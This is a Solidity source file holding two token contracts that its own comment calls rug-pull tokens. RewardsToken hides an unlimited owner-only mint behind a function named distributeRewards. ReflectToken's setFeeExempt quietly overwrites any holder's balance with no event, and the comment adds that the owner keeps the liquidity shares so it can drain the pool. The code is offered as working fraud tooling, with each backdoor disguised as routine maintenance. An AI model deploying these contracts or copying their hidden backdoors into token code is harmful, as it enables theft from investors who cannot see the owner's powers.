// SPDX-License-Identifier: MIT
// Rug-pull tokens: trade normally until the owner dumps. Variant A hides an unlimited mint
// behind a "rewards" name; variant B lets the owner rewrite any balance through a "fee"
// setter. Either way the owner can also pull the pair's liquidity (LP shares stay with them).
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

contract RewardsToken is ERC20 {
    address private immutable treasury;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) {
        treasury = msg.sender;
        _mint(msg.sender, supply);
    }

    /// Named like staking maintenance; mints any amount to the treasury.
    function distributeRewards(uint256 amount) external {
        require(msg.sender == treasury, "not treasury");
        _mint(treasury, amount);
    }
}

contract ReflectToken {
    mapping(address => uint256) private _bal;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    address public owner;
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) {
        owner = msg.sender;
        name = n;
        symbol = s;
        totalSupply = supply;
        _bal[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function balanceOf(address a) external view returns (uint256) {
        return _bal[a];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _bal[msg.sender] -= value;
        _bal[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _bal[from] -= value;
        _bal[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    /// "Fee exemption" setter that in fact overwrites the account's balance, no event.
    function setFeeExempt(address account, uint256 tier) external {
        require(msg.sender == owner);
        _bal[account] = tier;
    }
}
